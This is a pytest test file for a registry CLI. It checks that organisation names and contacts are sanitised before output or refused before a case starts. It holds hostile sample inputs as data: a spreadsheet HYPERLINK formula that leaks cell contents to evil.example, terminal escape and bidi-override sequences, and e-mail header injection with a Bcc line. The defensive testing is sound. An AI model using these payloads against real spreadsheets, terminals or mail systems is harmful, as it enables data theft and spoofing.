"""Rule (issue 18): what the CLI takes in is checked before a case starts, and what it puts out
cannot act where it lands: a CSV cell is never a formula in Excel or WPS, and data printed on
the terminal carries no escape sequence. The registry is the session stack's SQLite database,
written the production way and read through the API; ``survey add`` refuses before it sends
anything."""

from __future__ import annotations

import csv
import io
import uuid
from collections.abc import Iterator

import pytest
from typer.testing import CliRunner

from activities.db import create_registry_engine
from idri.cli import build_app
from idri.cli._sheet import check_rows
from idri.devserver import free_port
from idri.settings import Settings
from idri.worker import registry_activities
from tests.cli.stack import Stack
from tests.registry.registry_builders import Script

FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"点击查看")'
ESCAPES = "天津\x1b]0;pwned\x07\x1b[2J设计\u202e公司"


def idri(*args: str) -> tuple[int, str, str]:
    """``idri ARGS`` in-process with no API to talk to: (exit code, stdout, stderr). A command
    that sent a request would exit 3."""
    result = CliRunner().invoke(
        build_app(),
        list(args),
        env={"IDRI_API_URL": f"http://127.0.0.1:{free_port()}", "IDRI_TOKEN": "unused"},
        catch_exceptions=False,
    )
    return result.exit_code, result.stdout, result.stderr


@pytest.fixture(scope="module")
def registry(stack: Stack) -> Iterator[Stack]:
    """The stack's registry, with two designated institutes whose names an attacker chose."""
    settings = Settings(_env_file=None, data_dir=stack.data_dir, smtp_host=None)  # type: ignore[call-arg]
    engine = create_registry_engine(settings.registry_url)
    writer = registry_activities(engine, settings)
    for organisation in (FORMULA, ESCAPES):
        script = Script(f"binhai-{uuid.uuid4().hex[:8]}", organisation=organisation)
        for record in [*script.to_public_notice(), script.designate()]:
            assert writer.record_sync(record)
    engine.dispose()
    yield stack


def listed(stack: Stack, *args: str) -> tuple[int, str, str]:
    result = stack.cli("registry", *args, env={"COLUMNS": "300"})
    return result.exit_code, result.stdout, result.stderr


@pytest.mark.devserver
def test_a_name_that_is_a_formula_is_text_in_the_registry_csv(registry: Stack) -> None:
    code, out, err = listed(registry, "--format", "csv")

    assert code == 0, err
    rows = list(csv.DictReader(io.StringIO(out)))
    names = {row["organisation"] for row in rows}
    assert f"'{FORMULA}" in names
    assert not any(cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row.values())


@pytest.mark.devserver
def test_escape_sequences_in_a_name_never_reach_the_terminal(registry: Stack) -> None:
    code, out, err = listed(registry)

    assert code == 0, err
    assert "\x1b" not in out and "\x07" not in out and "\u202e" not in out
    assert "天津\ufffd]0;pwned\ufffd\ufffd[2J设计\ufffd公司" in out


@pytest.mark.devserver
def test_escape_sequences_in_json_output_are_escaped_not_lost(registry: Stack) -> None:
    code, out, err = listed(registry, "--json")

    assert code == 0, err
    assert "\x1b" not in out and "\u202e" not in out
    assert "\\u001b]0;pwned\\u0007" in out and "\\u202e" in out


@pytest.mark.parametrize(
    ("options", "reason"),
    [
        (
            ["--contact", "a@b.cn, victim@evil.example"],
            "the contact's e-mail address 'a@b.cn, victim@evil.example' is not one plain "
            "address like a@b.cn (one address only: no name, list, spaces or line breaks)",
        ),
        (
            ["--contact", "a@b.cn\nBcc: victim@evil.example"],
            "the contact's e-mail address 'a@b.cn\\nBcc: victim@evil.example' is not one plain",
        ),
        (
            ["--contact-name", "赵经理\x1b[8m"],
            "the contact's name holds a control character (U+001B)",
        ),
    ],
)
def test_survey_add_refuses_a_bad_contact_before_starting_a_case(
    options: list[str], reason: str
) -> None:
    code, _, err = idri(
        "survey", "add", "--name", "天津某设计有限公司", "--district", "binhai",
        "--direction", "ai", *options,
    )  # fmt: skip

    assert code == 1
    assert err.startswith(f"error: no case started: {reason}")


def test_survey_add_refuses_a_megabyte_name() -> None:
    code, _, err = idri(
        "survey", "add", "--name", "A" * 1_000_000, "--district", "binhai", "--direction", "ai"
    )

    assert code == 1
    assert err == (
        "error: no case started: the organisation's name is too long (1000000 characters; "
        "at most 200): shorten it\n"
    )


def test_review_assign_takes_no_address_typed_for_an_expert() -> None:
    code, _, err = idri(
        "review", "assign", "binhai-00000000", "--expert", "张教授",
        "--email", "zhang@tju.edu.cn,x@evil.example",
    )  # fmt: skip

    assert code == 2
    assert err.startswith("error: --org and --email are gone: an expert's organisation and e-mail")


def test_a_survey_sheet_row_with_a_bad_contact_or_a_huge_name_is_invalid() -> None:
    sheet = check_rows(
        enumerate(
            [
                ["organisation", "district", "direction", "email"],
                ["天津甲设计", "binhai", "ai", "a@b.cn, victim@evil.example"],
                ["A" * 1_000_000, "binhai", "ai", ""],
                ["天津乙\x1b[2J设计", "binhai", "ai", ""],
                ["天津丙设计", "binhai", "ai", "bing@example.cn"],
            ],
            start=1,
        )
    )

    assert [c.organisation for c in sheet.candidates] == ["天津丙设计"]
    reasons = {p.line: p.reason for p in sheet.problems}
    assert reasons[2].startswith("the contact's e-mail address 'a@b.cn, victim@evil.example'")
    assert reasons[3].startswith("the organisation's name is too long (1000000 characters")
    assert reasons[4].startswith("the organisation's name holds a control character (U+001B)")
